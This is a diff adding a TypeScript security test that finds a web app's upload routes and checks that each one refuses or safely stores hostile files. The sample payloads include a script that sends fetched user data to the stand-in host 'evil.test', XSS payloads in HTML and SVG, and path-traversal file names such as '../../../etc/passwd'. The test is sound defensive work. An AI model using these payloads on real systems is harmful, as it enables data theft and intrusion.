@@ -1,0 +1,240 @@
+import { readdirSync, statSync } from 'node:fs';
+import path from 'node:path';
+import { ERROR_STATUS } from '@bulwark/domain';
+import type { LightMyRequestResponse } from 'fastify';
+import pg from 'pg';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { MAX_UPLOAD_BYTES } from '../src/platform/http/upload.js';
+import type { RouteRecord } from '../src/platform/http/access.js';
+import { DEMO, seedDemo } from '../src/seed.js';
+import { changes, describeChanges, openFootprint, type FootprintReader } from './attack/footprint.js';
+import { call, createTestApp, nextIp, PNG, signIn, type Session, type TestApp } from './helpers.js';
+
+/**
+ * Hostile uploads on every upload route. An upload route is found, not named: a route that declares
+ * `consumes: multipart/form-data` in its schema, or whose last path word is an upload word (attachments,
+ * upload, logo, files, photo, import), and that answers a JSON body with a refusal naming the field
+ * `file` (what `readUpload` says when no file came). A new upload route is therefore attacked as soon as
+ * it is registered; one that declares multipart but does not refuse JSON fails the first test.
+ */
+const UPLOAD_WORD = /(attachments?|upload|logo|files?|photo|image|import)$/;
+
+let t: TestApp;
+let fp: FootprintReader;
+let admin: Session;
+const ids = new Map<string, string>();
+let uploadRoutes: RouteRecord[] = [];
+let requests = 0;
+
+beforeAll(async () => {
+  t = await createTestApp();
+  await seedDemo(t.deps.db.app);
+  admin = await signIn(t, DEMO.subDomain, DEMO.admin.email, DEMO.password);
+  // Guests may report (and so upload) only where the organisation allows it.
+  expect((await call(t, admin, 'PUT', '/api/organizations/guest_settings', { enabled: true })).statusCode).toBe(200);
+  await readIds(admin.profile.user.id);
+  fp = await openFootprint(t.ownerUrl);
+  uploadRoutes = await findUploadRoutes();
+});
+
+afterAll(async () => {
+  await fp?.close();
+  await t?.close();
+});
+
+/** One open record per table of the demo organisation, for path parameters (`actions/:id` → actions). */
+async function readIds(adminId: string) {
+  const client = new pg.Client({ connectionString: t.ownerUrl });
+  await client.connect();
+  try {
+    const tables = await client.query<{ table_name: string }>(`
+      select table_name from information_schema.columns where table_schema = 'public' and column_name = 'id' and data_type = 'uuid'
+      intersect select table_name from information_schema.columns where table_schema = 'public' and column_name = 'organization_id'`);
+    for (const { table_name: table } of tables.rows) {
+      const hasStatus = (await client.query(`select 1 from information_schema.columns where table_name = $1 and column_name = 'status'`, [table])).rowCount;
+      // A closed record refuses files for its own reasons; an open one lets the attack reach the upload.
+      const { rows } = await client.query<{ id: string }>(
+        `select id::text from "${table}" where organization_id = (select organization_id from users where id = $1) and id <> $1
+         ${hasStatus ? "order by (status::text in ('open', 'in_progress')) desc, id" : 'order by id'} limit 1`, [adminId]);
+      if (rows[0]) ids.set(table, rows[0].id);
+    }
+  } finally {
+    await client.end();
+  }
+}
+
+function urlOf(route: RouteRecord): string {
+  const segments = route.url.split('/');
+  return segments.map((seg, i) => (seg.startsWith(':') ? ids.get(segments[i - 1] ?? '') ?? '00000000-0000-7000-8000-000000000000' : seg)).join('/');
+}
+
+function headers(route: RouteRecord): Record<string, string> {
+  return 'public' in route.access
+    ? { 'x-tenant': DEMO.subDomain }
+    : { 'x-tenant': admin.tenant, authorization: `Bearer ${admin.token}`, 'x-csrf-token': admin.csrf };
+}
+
+async function findUploadRoutes(): Promise<RouteRecord[]> {
+  const found: RouteRecord[] = [];
+  for (const route of t.app.registeredRoutes) {
+    if (route.method !== 'POST' && route.method !== 'PUT') continue;
+    const schema = (route.schema ?? {}) as { consumes?: string[]; body?: unknown };
+    const declared = schema.consumes?.includes('multipart/form-data') ?? false;
+    const lastWord = route.url.split('/').filter((s) => s && !s.startsWith(':')).pop() ?? '';
+    if (!declared && (schema.body !== undefined || !UPLOAD_WORD.test(lastWord))) continue;
+    const res = await t.app.inject({ method: route.method, url: urlOf(route), headers: headers(route), payload: { file: 'not a file' }, remoteAddress: nextIp() });
+    const body = res.json() as { fields?: Record<string, string> };
+    const refusesJson = res.statusCode >= 400 && res.statusCode < 500 && body.fields?.file !== undefined;
+    if (declared) expect(refusesJson, `${route.method} ${route.url} declares multipart but answered JSON with ${res.statusCode} ${res.body}`).toBe(true);
+    if (refusesJson) found.push(route);
+  }
+  return found;
+}
+
+type Part = { name?: string; fileName?: string; contentType?: string; bytes: Buffer };
+
+/** A multipart body built by hand, so names and parts can be as hostile as a client can make them. */
+function multipartOf(parts: Part[]) {
+  const boundary = `----hostile${Math.random().toString(16).slice(2)}`;
+  const chunks = parts.flatMap((p) => [
+    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name ?? 'file'}"${p.fileName === undefined ? '' : `; filename="${p.fileName}"`}\r\n` +
+      (p.contentType ? `Content-Type: ${p.contentType}\r\n` : '') + '\r\n', 'utf8'),
+    p.bytes, Buffer.from('\r\n'),
+  ]);
+  return { payload: Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` };
+}
+
+async function send(route: RouteRecord, body: { payload: Buffer | string; contentType: string }): Promise<LightMyRequestResponse> {
+  requests += 1;
+  return t.app.inject({
+    method: route.method as 'POST', url: urlOf(route), payload: body.payload, remoteAddress: nextIp(),
+    headers: { ...headers(route), 'content-type': body.contentType },
+  });
+}
+
+function listFiles(dir: string): string[] {
+  const out: string[] = [];
+  for (const name of readdirSync(dir)) {
+    const full = path.join(dir, name);
+    if (statSync(full).isDirectory()) out.push(...listFiles(full));
+    else out.push(full);
+  }
+  return out.sort();
+}
+
+/** Bytes that are one thing, dressed as another. */
+const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
+const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
+const JS = Buffer.from('fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.test", t));');
+const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)]);
+/** A PNG signature followed by padding: sniffed as PNG, larger than any route allows. */
+const OVERSIZED = Buffer.concat([PNG, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - PNG.length)]);
+
+/** Refused uploads: a 4xx in the error shape with a clear text, no row and no bytes left behind. */
+const REFUSED: { label: string; body: () => { payload: Buffer | string; contentType: string }; status?: number }[] = [
+  { label: 'a file over the size limit', status: 413, body: () => multipartOf([{ fileName: 'big.png', contentType: 'image/png', bytes: OVERSIZED }]) },
+  { label: 'HTML named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: HTML }]) },
+  { label: 'SVG with script named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: SVG }]) },
+  { label: 'JavaScript named .png', body: () => multipartOf([{ fileName: 'photo.png', contentType: 'image/png', bytes: JS }]) },
+  { label: 'SVG declared as image/svg+xml', body: () => multipartOf([{ fileName: 'logo.svg', contentType: 'image/svg+xml', bytes: SVG }]) },
+  { label: 'an EXE named .pdf', body: () => multipartOf([{ fileName: 'report.pdf', contentType: 'application/pdf', bytes: EXE }]) },
+  { label: 'a zero-byte file', body: () => multipartOf([{ fileName: 'empty.png', contentType: 'image/png', bytes: Buffer.alloc(0) }]) },
+  { label: 'two files', body: () => multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }, { fileName: 'b.png', contentType: 'image/png', bytes: PNG }]) },
+  { label: 'no file, only a text field', body: () => multipartOf([{ name: 'note', bytes: Buffer.from('hello') }]) },
+  { label: 'no parts at all', body: () => multipartOf([]) },
+  { label: 'a body cut off mid-file', body: () => { const m = multipartOf([{ fileName: 'a.png', contentType: 'image/png', bytes: PNG }]); return { ...m, payload: m.payload.subarray(0, 150) }; } },
+  { label: 'multipart without a boundary', body: () => ({ payload: 'garbage', contentType: 'multipart/form-data' }) },
+  { label: 'JSON instead of a file', body: () => ({ payload: JSON.stringify({ file: PNG.toString('base64') }), contentType: 'application/json' }) },
+];
+
+/** Hostile names on an acceptable file: stored harmlessly (or refused), never outside the files folder. */
+const HOSTILE_NAMES = [
+  '../../../etc/passwd', '..\\..\\win.ini', '/etc/shadow', 'a\u0000b.png', 'C:\\Windows\\System32\\evil.png',
+  '<script>alert(1)</script>.png', 'invoice\u202Egnp.exe', '....//....//x.png', '.', '..', ' ', 'a'.repeat(1_000) + '.png', '%2e%2e%2fpasswd',
+];
+
+describe('hostile uploads on every upload route', () => {
+  it('finds the upload routes', () => {
+    console.log(`bad uploads: ${uploadRoutes.length} upload routes: ${uploadRoutes.map((r) => `${r.method} ${r.url}`).join(', ')}`);
+    expect(uploadRoutes.length).toBeGreaterThanOrEqual(4);
+  });
+
+  it('refuses oversized, mislabelled, empty, doubled and missing files with a 4xx that writes nothing', async () => {
+    const failures: string[] = [];
+    for (const route of uploadRoutes) {
+      for (const c of REFUSED) {
+        const where = `${route.method} ${route.url}: ${c.label}`;
+        try {
+          const filesBefore = listFiles(t.deps.config.filesDir);
+          const before = await fp.read();
+          const res = await send(route, c.body());
+          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
+          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
+          if (c.status) expect(res.statusCode, where).toBe(c.status);
+          const body = res.json() as { errors: string[]; code: keyof typeof ERROR_STATUS };
+          expect(body.errors[0]?.trim(), where).toBeTruthy();
+          expect(ERROR_STATUS[body.code], `${where}: code ${body.code}`).toBe(res.statusCode);
+          expect(describeChanges(changes(before, await fp.read())), `${where} wrote rows`).toBe('nothing');
+          expect(listFiles(t.deps.config.filesDir), `${where} left bytes in the files folder`).toEqual(filesBefore);
+        } catch (err) {
+          failures.push(String(err).split('\n')[0]!.slice(0, 400));
+        }
+      }
+    }
+    console.log(`bad uploads: ${requests} requests so far`);
+    expect(failures).toEqual([]);
+  });
+
+  it('keeps an acceptable file under a hostile name only with a harmless name, inside the files folder', async () => {
+    const failures: string[] = [];
+    let stored = 0;
+    for (const route of uploadRoutes) {
+      for (const name of HOSTILE_NAMES) {
+        const where = `${route.method} ${route.url}: file named ${JSON.stringify(name.slice(0, 40))}`;
+        try {
+          const filesBefore = listFiles(t.deps.config.filesDir);
+          const before = await fp.read();
+          const res = await send(route, multipartOf([{ fileName: name, contentType: 'image/png', bytes: PNG }]));
+          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBeLessThan(500);
+          const after = await fp.read();
+          const added = listFiles(t.deps.config.filesDir).filter((f) => !filesBefore.includes(f));
+          if (res.statusCode >= 400) {
+            expect(describeChanges(changes(before, after)), `${where} was refused but wrote rows`).toBe('nothing');
+            expect(added, `${where} was refused but left bytes`).toEqual([]);
+            continue;
+          }
+          stored += 1;
+          const rows = await fileRowsAfter(before.get('public.files')?.digest ?? '0');
+          expect(rows.length, `${where}: one file row`).toBe(1);
+          const row = rows[0]!;
+          expect(row.file_name, where).not.toMatch(/[/\\]|\.\./);
+          expect([...row.file_name].some((c) => c.charCodeAt(0) < 32 || c.charCodeAt(0) === 127), `${where}: control characters in ${JSON.stringify(row.file_name)}`).toBe(false);
+          expect(row.file_name.length, where).toBeLessThanOrEqual(200);
+          expect(row.file_name.trim().length, where).toBeGreaterThan(0);
+          // The bytes sit inside the files folder, under the key the row names, and are the bytes sent.
+          expect(added.length, `${where}: one new file`).toBe(1);
+          const root = path.resolve(t.deps.config.filesDir);
+          expect(added[0]!.startsWith(root + path.sep), where).toBe(true);
+          expect(path.resolve(root, row.storage_key), where).toBe(added[0]);
+        } catch (err) {
+          failures.push(String(err).split('\n')[0]!.slice(0, 400));
+        }
+      }
+    }
+    console.log(`bad uploads: hostile names stored harmlessly ${stored} times; ${requests} requests in all`);
+    expect(failures).toEqual([]);
+    expect(stored).toBeGreaterThan(0);
+  });
+});
+
+/** File rows written after a footprint reading (their row version is newer than the table's was). */
+async function fileRowsAfter(version: string): Promise<{ file_name: string; storage_key: string }[]> {
+  const client = new pg.Client({ connectionString: t.ownerUrl });
+  await client.connect();
+  try {
+    return (await client.query<{ file_name: string; storage_key: string }>(
+      'select file_name, storage_key from files where xmin::text::bigint > $1', [version])).rows;
+  } finally {
+    await client.end();
+  }
+}
